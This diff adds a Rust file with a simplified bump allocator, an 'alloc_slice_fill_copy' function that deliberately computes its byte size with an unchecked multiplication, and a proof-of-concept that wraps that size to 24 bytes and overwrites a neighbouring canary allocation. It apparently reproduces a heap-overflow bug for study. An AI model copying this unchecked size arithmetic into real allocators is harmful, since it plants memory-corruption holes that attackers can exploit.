@@ -0,0 +1,127 @@
+#![allow(clippy::new_without_default, clippy::mut_from_ref)]
+// SECTION 1: MINIMAL DEPENDENCIES
+
+use std::alloc::Layout;
+use std::cell::Cell;
+use std::mem;
+use std::ptr::{self, NonNull};
+use std::slice;
+
+// Helper functions
+fn capacity_overflow() -> ! {
+    panic!("capacity overflow")
+}
+
+fn handle_alloc_error(layout: Layout) -> ! {
+    panic!("encountered allocation error: {:?}", layout)
+}
+
+// Simplified Bump allocator that carves every allocation out of a single chunk.
+// Allocations are carved out in address order, so consecutive allocations are
+// neighbours in memory.
+pub struct Bump {
+    chunk: NonNull<u8>,
+    used: Cell<usize>,
+}
+
+const CHUNK_SIZE: usize = 4096;
+const CHUNK_ALIGN: usize = 16;
+
+impl Bump {
+    pub fn new() -> Self {
+        let layout = Layout::from_size_align(CHUNK_SIZE, CHUNK_ALIGN).unwrap();
+        let chunk = match NonNull::new(unsafe { std::alloc::alloc(layout) }) {
+            Some(p) => p,
+            None => handle_alloc_error(layout),
+        };
+        Bump {
+            chunk,
+            used: Cell::new(0),
+        }
+    }
+
+    // `alloc` takes `&self` but returns `&mut T`. That is only sound because every
+    // call is handed a region no other allocation overlaps.
+    #[inline(always)]
+    #[allow(clippy::mut_from_ref)]
+    pub fn alloc<T>(&self, val: T) -> &mut T {
+        let layout = Layout::new::<T>();
+        unsafe {
+            let p = self.alloc_layout(layout).as_ptr() as *mut T;
+            ptr::write(p, val);
+            &mut *p
+        }
+    }
+}
+
+impl Bump {
+    fn alloc_layout(&self, layout: Layout) -> NonNull<u8> {
+        assert!(layout.align() <= CHUNK_ALIGN);
+        let start = (self.used.get() + layout.align() - 1) & !(layout.align() - 1);
+        let end = match start.checked_add(layout.size()) {
+            Some(end) if end <= CHUNK_SIZE => end,
+            _ => handle_alloc_error(layout),
+        };
+        self.used.set(end);
+        unsafe { NonNull::new_unchecked(self.chunk.as_ptr().add(start)) }
+    }
+}
+
+impl Bump {
+    // Bytes currently handed out from the chunk.
+    pub fn allocated_bytes(&self) -> usize {
+        self.used.get()
+    }
+}
+
+impl Drop for Bump {
+    fn drop(&mut self) {
+        let layout = Layout::from_size_align(CHUNK_SIZE, CHUNK_ALIGN).unwrap();
+        unsafe {
+            std::alloc::dealloc(self.chunk.as_ptr(), layout);
+        }
+    }
+}
+
+// SECTION 2: VULNERABLE CODE
+
+impl Bump {
+    // Allocates `len` copies of `value`. The byte size is computed by hand as
+    // `size_of::<T>() * len`, which wraps silently without overflow checks, as in a
+    // release build. For a large enough `len` the product wraps around to a few
+    // bytes, so the arena hands out a tiny block, fills only what fits in it, and
+    // returns a slice that claims `len` elements. Every index past the block passes
+    // the slice's bounds check and reaches the arena's neighbouring allocations.
+    pub fn alloc_slice_fill_copy<T: Copy>(&self, len: usize, value: T) -> &mut [T] {
+        let size = mem::size_of::<T>() * len;
+        let layout = Layout::from_size_align(size, mem::align_of::<T>()).unwrap_or_else(|_| capacity_overflow());
+        unsafe {
+            let dst = self.alloc_layout(layout).as_ptr() as *mut T;
+            for i in 0..size / mem::size_of::<T>() {
+                ptr::write(dst.add(i), value);
+            }
+            slice::from_raw_parts_mut(dst, len)
+        }
+    }
+}
+
+// SECTION 3: PROOF-OF-CONCEPT
+
+// `8 * HUGE_LEN` is 2^64 + 24, which wraps to a 24-byte block (3 elements).
+const HUGE_LEN: usize = (1 << 61) + 3;
+
+fn main() {
+    // 1. Setup: request a slice whose byte size overflows `usize`.
+    let bump = Bump::new();
+    let cells = bump.alloc_slice_fill_copy(HUGE_LEN, 0u64);
+    let canary = bump.alloc([0xCCCC_CCCC_CCCC_CCCCu64; 4]);
+    println!("Slice length: {:#x}, block size: {} bytes", cells.len(), bump.allocated_bytes() - 32);
+
+    // 2. Trigger BUG: write elements 3..7. These indices are within the slice's
+    // claimed length, but past the end of the 24-byte block.
+    cells[3..7].fill(0x4141_4141_4141_4141);
+
+    // 3. Verify the canary allocated right after the slice.
+    println!("Canary: {:x?}", canary);
+    assert!(canary.iter().all(|&c| c == 0xCCCC_CCCC_CCCC_CCCC), "HEAP OVERFLOW CONFIRMED: the canary was overwritten!");
+}